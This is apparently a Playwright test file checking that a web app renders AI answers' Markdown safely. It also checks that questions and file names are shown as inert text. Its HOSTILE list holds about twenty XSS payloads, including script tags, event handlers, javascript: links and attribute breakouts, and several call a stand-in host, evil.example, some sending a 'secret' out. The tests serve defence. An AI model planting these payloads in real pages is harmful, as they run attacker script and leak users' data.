"""An answer is text: Markdown is shown, and nothing in it acts, asks elsewhere or passes for a part of the page."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from flashsight.ui import STATIC_FOLDER
from tests.server.scripted import saying
from tests.ui.house import PageHouse
from tests.ui.pictures import choose, file
from tests.ui.test_answer import ask

pytestmark = pytest.mark.browser

MARKDOWN = """# 标题

**粗** *斜* ~~删~~ `代码`

| 属性 | 值 |
|:--|--:|
| 颜色 | 红<br>蓝 |

3. 三
4. 四

    四的第二段

- [x] 做了
- [ ] 没做

```html
<b>不是粗体</b>
```

[链接](https://example.com/a?b=c) ![图](https://example.com/x.png)
"""

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><use href='//evil.example/x'></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<a href='javascript:window.hacked = 1'>x</a> [x](javascript:window.hacked=1)",
    "[y](data:text/html,<script>window.hacked=1</script>)",
    "[x](JaVaScRiPt&colon;window.hacked=1) [z](\x01javascript:window.hacked=1)",
    "<math><mi//xlink:href='data:x,<script>window.hacked=1</script>'>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "<div id=trouble>fake</div><form id=form action=//evil.example><input name=submit></form>",
    "<details open ontoggle='window.hacked = 1'>x</details>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/p)'>cover</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    '![x](//evil.example/t.png) ![y](https://evil.example/?q=secret "t") <video src=//evil.example/v autoplay>',
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    '[x](<https://evil.example/" onmouseover="window.hacked=1>)',
    '!["><script>window.hacked=1</script>](https://evil.example/"onerror="window.hacked=1)',
    "```<img src=x onerror=window.hacked=1>\n<script>window.hacked=1</script>\n```",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<template><script>window.hacked=1</script></template><object data=//evil.example></object>",
]


def test_markdown_is_rendered(page: Page, house: PageHouse):
    house.says(*saying(MARKDOWN))
    ask(page)
    answer = page.locator("#answer")
    expect(answer.locator("h1")).to_have_text("标题")
    expect(answer.locator("strong")).to_have_text("粗")
    expect(answer.locator("td").last).to_have_text("红\n蓝", use_inner_text=True)
    expect(answer.locator("ol")).to_have_attribute("start", "3")
    expect(answer.locator("ol li").last).to_contain_text("四的第二段")
    expect(answer.locator("ul li").first).to_contain_text("☑ 做了")
    expect(answer.locator("pre code")).to_contain_text("<b>不是粗体</b>")
    links = answer.locator("a").all()
    assert [link.get_attribute("href") for link in links] == ["https://example.com/a?b=c", "https://example.com/x.png"]
    assert {link.get_attribute("rel") for link in links} == {"noreferrer noopener"}


@pytest.mark.parametrize("whole", [True, False], ids=["at once", "in pieces"])
def test_nothing_in_an_answer_acts(page: Page, house: PageHouse, whole: bool):
    """The page's own watch also fails on any request elsewhere, any policy violation and any error."""
    text = "\n\n".join(HOSTILE)
    house.says(*saying(*([text] if whole else [text[i : i + 7] for i in range(0, len(text), 7)])))
    ask(page)
    expect(page.locator("#answer")).to_contain_text("hacked")
    for element in page.query_selector_all("#answer *"):
        element.dispatch_event("mouseover")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    found = page.evaluate("[...document.querySelectorAll('#answer *')].map((e) => [e.tagName, e.getAttributeNames()])")
    allowed = {"DIV", "P", "A", "CODE", "PRE", "BR", "EM", "STRONG", "BLOCKQUOTE", "H1", "H2", "UL", "OL", "LI", "HR"}
    assert {tag for tag, _ in found} <= allowed
    assert {name for _, names in found for name in names} <= {"href", "rel", "target", "title", "start"}
    schemes = page.evaluate("[...document.querySelectorAll('#answer a')].map((a) => a.protocol)")
    assert set(schemes) <= {"https:", "http:", ":"}
    assert page.url == f"{house.base}/"


def test_html_in_an_answer_is_shown_as_what_it_says(page: Page, house: PageHouse):
    house.says(*saying("页面上有 <button>登录</button> 和 <input>，a < b && c > d"))
    ask(page)
    expect(page.locator("#answer")).to_have_text("页面上有 <button>登录</button> 和 <input>，a < b && c > d")


def test_a_question_is_shown_as_text_too(page: Page):
    ask(page, "<img src=x onerror='window.hacked=1'>")
    expect(page.locator("#history .question")).to_have_text("<img src=x onerror='window.hacked=1'>")
    assert page.evaluate("window.hacked") is None


def test_a_file_name_is_shown_as_text(page: Page):
    choose(page, file("<img src=x onerror=window.hacked=1>.png"))
    expect(page.locator("#pictures .name")).to_have_text("<img src=x onerror=window.hacked=1>.png")


def test_no_style_or_script_stands_in_the_document_and_names_are_not_looked_up(page: Page):
    html = (STATIC_FOLDER / "index.html").read_text(encoding="utf-8")
    assert "style=" not in html
    assert "<style" not in html
    assert page.evaluate("[...document.scripts].every((s) => s.src.startsWith(location.origin) && !s.textContent)")
    names = page.evaluate("[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())")
    assert [name for name in names if name.startswith("on")] == []
    assert page.evaluate("document.querySelector('meta[http-equiv=x-dns-prefetch-control]').content") == "off"
